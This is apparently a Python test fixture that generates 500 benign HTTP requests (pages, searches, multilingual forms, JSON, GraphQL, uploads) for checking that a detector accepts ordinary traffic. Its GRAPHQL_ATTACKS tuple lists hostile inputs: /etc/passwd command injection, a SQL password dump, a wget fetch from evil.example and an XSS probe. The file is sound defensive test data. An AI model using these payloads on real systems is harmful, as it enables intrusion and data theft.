"""Five hundred requests as ordinary apps get them: pages, searches, forms, JSON, GraphQL, uploads, many languages.

Made by hand from what people write, combined in a fixed order. None of them is meant to be an attack; several have
characters and words that attacks have, too.
"""

from __future__ import annotations

import itertools
import json
from collections.abc import Iterator
from typing import NamedTuple
from urllib.parse import quote, urlencode

TERMS = (
    "running shoes", "O'Brien & Sons", "C++ primer", "café au lait", "Zürich hotel", "select a plan", "50% off",
    "how to drop weight", "update my account", "union jack mug", "rock 'n' roll", "AT&T", "naïve Bayes", "日本語 辞書",
    "и снова здравствуйте", "مرحبا", "3/4 inch pipe", "price < 20", "a=b", "user@example.org", "#hashtag", "$100-$200",
    "it's 5 o'clock", "Müller-Lüdenscheidt", "emoji 🎉 party", "where to eat", "order by phone", "R&D (2026)",
    "black + decker", "size: 10x15cm",
)  # fmt: skip
SENTENCES = (
    "Hello, I ordered two pairs (size 42) last week; one of them is too small. Can I exchange it?",
    "Das Gerät funktioniert einwandfrei, 5 Sterne! Versand hat 3 Tage gedauert.",
    "Please call me back at +41 44 123 45 67 between 9:00 and 17:30. Thanks, J. O'Neill",
    'The update broke the login page: after "Sign in" I see an empty screen in Firefox 128.',
    "My address is 12 Rue de l'Église, Bâtiment C, 75011 Paris.",
    "We'd like to select from the list, then join the newsletter and delete the old account.",
    "Große Straße 5/7, 80331 München; bitte nicht klingeln, Baby schläft ;-)",
    "これは素晴らしい製品です。また買います。",
    "Я очень доволен покупкой, спасибо большое!",
    "Total: 3 x 19.99 = 59.97 EUR + 4.90 shipping (VAT incl.)\nDelivery by Friday, if possible.",
    "The recipe: 2 cups flour, 1 tsp salt & pepper, 1/2 l water; mix, rest 30 min, bake at 220°C.",
    "I don't think that's right, is it? See section 4.2 of the manual.",
    "Meeting notes:\n- budget ok\n- hire 2 people\n- next meeting on 2026-12-01",
    'Your website says "in stock", but the shop says otherwise...',
    "¿Cuándo llega mi pedido? Número 2026-1129/A. ¡Gracias!",
)
NAMES = (
    "Anna Müller",
    "Seán O'Connor",
    "José García",
    "李小龙",
    "Łukasz Żółć",
    "Mary-Jane Smith",
    "D'Angelo Russo",
    "Ögmundur Þór",
)
PATHS = (
    "/", "/index.html", "/products/42", "/products/42/reviews", "/static/app.3f2a1b.js", "/images/logo.png",
    "/api/v1/orders/2026-1129", "/search", "/de/über-uns", "/help/faq.html", "/healthz", "/users/me",
    "/blog/2026/11/how-we-select-our-suppliers", "/downloads/manual_v2.pdf", "/.well-known/openid-configuration",
)  # fmt: skip
GRAPHQL_ATTACKS = (
    "{ id }; cat /etc/passwd",
    'query A { a(b: "\' UNION SELECT password FROM users--") }',
    "; wget http://evil.example/x.sh",
    'query { a(b: "<script>alert(1)</script>") }',
)
"""What is no ordinary query."""
QUERIES = (
    "{ product(id: 42) { name price reviews(first: 3) { author text } } }",
    "query Orders($after: String) { orders(first: 20, after: $after) { edges { node { id total } } } }",
    "mutation AddToCart($id: ID!, $n: Int = 1) { addToCart(product: $id, count: $n) { items { id count } } }",
    "fragment F on User { id name email } query Me { me { ...F avatar(size: 64) } }",
    "query Search($q: String!) { search(text: $q, kinds: [PRODUCT, PAGE]) { __typename ... on Product { name } } }",
)
FILES = (
    ("photo.png", "image/png", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 12),
    ("report.csv", "text/csv", b"id,name,price\n1,shoe,19.99\n2,\"hat, red\",9.50\n" * 20),
    ("Lebenslauf Müller.pdf", "application/pdf", b"%PDF-1.7\n1 0 obj << >> endobj\n" + bytes(range(255, -1, -1)) * 8),
    ("notes.txt", "text/plain", "\n".join(SENTENCES).encode()),
    ("page.html", "text/html", b"<html><body><h1>Hi</h1><p>Some <b>text</b></p></body></html>"),
    ("data.json", "application/json", b'{"rows": [1, 2, 3]}'),
)  # fmt: skip
BROWSER = (
    (b"Host", b"shop.example"),
    (b"User-Agent", b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
    (b"Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    (b"Accept-Language", b"de-CH,de;q=0.8,en;q=0.5"),
    (b"Accept-Encoding", b"gzip, deflate, br"),
    (b"Referer", b"https://shop.example/products?sort=price&page=2"),
    (b"Cookie", b"session=3f2a1b9c-77aa-4d1e; theme=dark; consent=%7B%22ads%22%3Afalse%7D"),
)
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"


class Benign(NamedTuple):
    """One request."""

    title: str
    method: bytes
    target: bytes
    fields: tuple[tuple[bytes, bytes], ...]
    body: bytes = b""


def requests() -> list[Benign]:
    """The corpus."""
    made = [*_pages(), *_forms(), *_documents(), *_graphql(), *_uploads()]
    return made[:500]


def _with_body(title: str, method: str, path: str, kind: str, body: bytes) -> Benign:
    fields = (*BROWSER, (b"Content-Type", kind.encode()), (b"Content-Length", str(len(body)).encode()))
    return Benign(title, method.encode(), quote(path).encode(), fields, body)


def _pages() -> Iterator[Benign]:
    for path in PATHS:
        yield Benign(f"page {path}", b"GET", quote(path).encode(), BROWSER)
    for term, spelling in itertools.product(TERMS, ("plus", "percent")):
        query = urlencode({"q": term, "page": 2}) if spelling == "plus" else f"q={quote(term, safe='')}&sort=-price"
        yield Benign(f"search {term} ({spelling})", b"GET", f"/search?{query}".encode(), BROWSER)
    for number in range(35):
        query = urlencode({"from": f"2026-11-{number % 28 + 1:02}", "tags[]": TERMS[number % 30], "fields": "id,name"})
        yield Benign(f"list {number}", b"GET", f"/api/v1/orders?{query}".encode(), BROWSER)


def _forms() -> Iterator[Benign]:
    kind = "application/x-www-form-urlencoded"
    for name, sentence in itertools.product(NAMES, SENTENCES):
        form = {"name": name, "email": "someone+shop@example.org", "message": sentence, "newsletter": "on"}
        yield _with_body(f"form of {name}: {sentence[:30]}", "POST", "/contact", kind, urlencode(form).encode())


def _documents() -> Iterator[Benign]:
    for number, (sentence, name) in enumerate(itertools.product(SENTENCES, NAMES)):
        document = {
            "id": number, "customer": {"name": name, "tags": ["new", TERMS[number % 30]], "vip": number % 2 == 0},
            "lines": [{"sku": f"A-{number}-{place}", "price": 19.99, "note": None} for place in range(3)],
            "comment": sentence,
        }  # fmt: skip
        body = json.dumps(document, ensure_ascii=number % 3 == 0).encode()
        method, kind = (("POST", "application/json"), ("PUT", "application/json; charset=utf-8"),
                        ("PATCH", "application/merge-patch+json"))[number % 3]  # fmt: skip
        yield _with_body(f"{method} {number}", method, f"/api/v1/orders/{number}", kind, body)


def _graphql() -> Iterator[Benign]:
    for number, (query, term) in enumerate(itertools.product(QUERIES, TERMS[:18])):
        body = json.dumps({"query": query, "variables": {"q": term, "id": str(number), "after": None}}).encode()
        yield _with_body(f"GraphQL {query[:20]} {term}", "POST", "/graphql", "application/json", body)


def _uploads() -> Iterator[Benign]:
    for (file, kind, content), sentence in itertools.product(FILES, SENTENCES[:10]):
        parts = (
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="caption"\r\n\r\n{sentence}\r\n'
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="{file}"\r\n'
            f"Content-Type: {kind}\r\n\r\n"
        )
        body = parts.encode() + content + f"\r\n--{BOUNDARY}--\r\n".encode()
        yield _with_body(
            f"upload {file}: {sentence[:20]}", "POST", "/upload", f"multipart/form-data; boundary={BOUNDARY}", body
        )
